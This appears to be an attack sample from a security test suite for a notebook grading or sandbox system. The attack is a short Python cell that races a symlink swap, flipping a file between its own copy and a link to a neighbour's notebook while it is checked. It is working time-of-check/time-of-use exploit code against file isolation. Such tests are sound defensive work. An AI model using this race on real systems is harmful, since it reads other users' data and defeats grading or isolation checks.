# attack: the notebook changes between its own and a link to a neighbour's while it is looked at
# family: second run
# base: blank
# points: 0
# then: 0
# %% again
import os, shutil, threading, time
shutil.copy(folder / name, folder / "own.txt")

def flip():
    start = time.monotonic()
    while time.monotonic() - start < 6:
        try:
            os.symlink(f"../../{neighbour.parent.name}/{neighbour.name}/{name}", folder / "next")
            os.rename(folder / "next", folder / name)
            shutil.copy(folder / "own.txt", folder / "next")
            os.rename(folder / "next", folder / name)
        except OSError:
            return

threading.Thread(target=flip, daemon=True).start()
